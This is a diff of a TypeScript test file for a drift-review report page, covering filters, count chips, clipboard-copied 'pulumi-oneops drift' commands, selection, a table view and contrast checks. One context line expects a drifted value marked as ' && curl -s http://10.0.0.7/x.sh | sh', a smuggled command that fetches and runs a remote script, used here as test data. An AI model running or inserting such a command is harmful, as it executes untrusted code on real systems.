@@ -62,7 +62,8 @@ test('severities are switched off one by one, and records without a finding disa
   const page = open(fullReview());
   set(page, '[value=medium]', false);
   set(page, '[value=low]', false);
-  expect(shownOf(page).every((finding) => finding.getAttribute('data-severity') === 'high')).toBe(true);
+  set(page, '[value=other]', false);
+  expect(shownOf(page).every((finding) => finding.getAttribute('data-bucket') === 'high')).toBe(true);
   const records = [...page.window.document.querySelectorAll('.record:not([hidden])')];
   expect(records).toHaveLength(5);
   set(page, '[value=high]', false);
@@ -92,6 +93,106 @@ test('values stand side by side with exactly the difference marked', () => {
   expect(marks[0]).toEqual(['644', '777', ' && curl -s http://10.0.0.7/x.sh | sh']);
   expect(marks[1]).toEqual(['5', '60']);
   expect(document.querySelectorAll('.finding')[4]?.querySelectorAll('.side')).toHaveLength(3);
+});
+
+test('the chips count what the tiles count, and together all findings', () => {
+  for (const review of [fullReview(), largeReview(30)]) {
+    const { document } = open(review).window;
+    const numbers = (selector: string): readonly number[] =>
+      [...document.querySelectorAll(selector)].map(({ textContent }) => Number(textContent));
+    const chips = numbers('.filters .chip b');
+    expect(chips).toEqual(numbers('.tile strong').slice(0, 4));
+    expect(chips.reduce((sum, count) => sum + count)).toBe(review.findings.length);
+  }
+});
+
+/** A page whose clipboard is seen. */
+const withClipboard = (review: Review): { readonly page: JSDOM; readonly copied: string[] } => {
+  const page = open(review);
+  const copied: string[] = [];
+  Object.defineProperty(page.window, 'navigator', {
+    value: { clipboard: { writeText: (text: string) => Promise.resolve(void copied.push(text)) } },
+  });
+  return { page, copied };
+};
+const click = (page: JSDOM, selector: string): void => {
+  const found = page.window.document.querySelector(selector);
+  found?.dispatchEvent(new page.window.Event('click', { bubbles: true }));
+};
+const pick = (page: JSDOM, id: string, on = true): void => {
+  const box = page.window.document.querySelector(`#f-${id} .pick input`) as PageElement;
+  box.checked = on;
+  box.dispatchEvent(new page.window.Event('change', { bubbles: true }));
+};
+
+test('what is copied is a command, whatever is said around it; where there is none, nothing is offered to copy', () => {
+  const { page, copied } = withClipboard(fullReview());
+  const { document } = page.window;
+  document.querySelectorAll('button.copy').forEach((button) => {
+    button.dispatchEvent(new page.window.Event('click', { bubbles: true }));
+  });
+  const commands = fullReview().findings.flatMap(({ advice }) => Object.values(advice.commands ?? {}));
+  expect([...copied].sort()).toEqual([...commands].sort());
+  expect(copied.filter((text) => !/^pulumi(-oneops)? [a-z-]+( [^ ]+)*$/.test(text) || /[:,] /.test(text))).toEqual([]);
+});
+
+test('several findings are selected, in either view, and become one command of those that can have it', () => {
+  const { page, copied } = withClipboard(sampleReview());
+  const { document } = page.window;
+  const [plain, , secretOne, , conflict] = sampleReview().findings.map(({ id }) => id) as [string, ...string[]];
+  expect(document.querySelector('.selection')?.hidden).toBe(true);
+  pick(page, plain);
+  pick(page, secretOne ?? '');
+  expect(document.querySelector('.selected')?.textContent).toBe('2 selected');
+  expect([...document.querySelectorAll('.row .pick input')].filter(({ checked }) => checked)).toHaveLength(2);
+  for (const verb of ['revert', 'accept', 'ignore']) click(page, `[data-verb=${verb}]`);
+  expect(copied).toEqual([
+    `pulumi-oneops drift revert ${plain} ${secretOne}`,
+    `pulumi-oneops drift accept ${plain}`,
+    `pulumi-oneops drift ignore ${plain} ${secretOne} --reason TEXT --owner NAME --until DAY`,
+  ]);
+  set(page, '[name=kind]', 'CloudConfiguration');
+  expect(document.querySelector('.selected')?.textContent).toBe('2 selected, 2 not shown');
+  click(page, '.selection .all');
+  expect(document.querySelector(`#f-${conflict} .pick input`)?.checked).toBe(true);
+  click(page, '.selection .clear');
+  expect(document.querySelector('.selection')?.hidden).toBe(true);
+});
+
+test('the table has a row for each finding that the filters let through', () => {
+  const page = open(fullReview());
+  const { document } = page.window;
+  const rows = (): readonly PageElement[] => [...document.querySelectorAll('.row:not([hidden])')];
+  set(page, '[name=text]', 'tomcat');
+  key(page, 't');
+  expect([document.querySelector('#table')?.hidden, document.querySelector('#cards')?.hidden]).toEqual([false, true]);
+  expect(
+    rows()
+      .map((row) => row.getAttribute('data-finding'))
+      .sort(),
+  ).toEqual([...document.querySelectorAll('.finding:not([hidden])')].map(({ id }) => id.slice(2)).sort());
+  key(page, 't');
+  expect([document.querySelector('#table')?.hidden, document.querySelector('#cards')?.hidden]).toEqual([true, false]);
+});
+
+test('an attribute has the name it has in its file: in snake case in YAML, in camel case in a program', () => {
+  const titleIn = (file: string): string | undefined =>
+    open(
+      sampleReview({ findings: [sampleFinding(1, { attribute: 'execCmd', at: { file, line: 1, column: 1 } })] }),
+    ).window.document.querySelector('h5')?.textContent;
+  expect([titleIn('oneops.yaml'), titleIn('index.ts')]).toEqual(['exec_cmd', 'execCmd']);
+});
+
+test('of a first review nothing is said to be new; later, what is', () => {
+  const past = (runs: readonly number[]): readonly string[] => {
+    const findings = runs.map((count, number) =>
+      sampleFinding(number, { history: { firstSeen: sampleReview().started, runs: count } }),
+    );
+    const { document } = open(sampleReview({ findings })).window;
+    return [...document.querySelectorAll('.past')].map(({ textContent }) => textContent);
+  };
+  expect(past([1, 1])).toEqual([]);
+  expect(past([1, 3])).toEqual(['new in this review', expect.stringContaining('in 3 reviews')]);
 });
 
 const NASTY = [
@@ -225,10 +326,20 @@ test.each([
   ['dark', new Map([...paletteOf(light), ...paletteOf(dark.split('\n')[0] ?? '')])],
 ])('%s: every text can be read on what it stands on', (_, palette) => {
   const pairs = [
-    ...['page', 'surface', 'sunken', 'before', 'after', 'third', 'before-mark', 'after-mark', 'third-mark'].map(
-      (ground) => ['text', ground],
-    ),
-    ...['page', 'surface', 'sunken', 'before', 'after', 'third'].map((ground) => ['muted', ground]),
+    ...[
+      'page',
+      'surface',
+      'sunken',
+      'before',
+      'drifted',
+      'coming',
+      'third',
+      'before-mark',
+      'drifted-mark',
+      'coming-mark',
+      'third-mark',
+    ].map((ground) => ['text', ground]),
+    ...['page', 'surface', 'sunken', 'before', 'drifted', 'coming', 'third'].map((ground) => ['muted', ground]),
     ...['high', 'medium', 'low', 'good'].flatMap((tone) => [
       [tone, `${tone}-soft`],
       [tone, 'surface'],
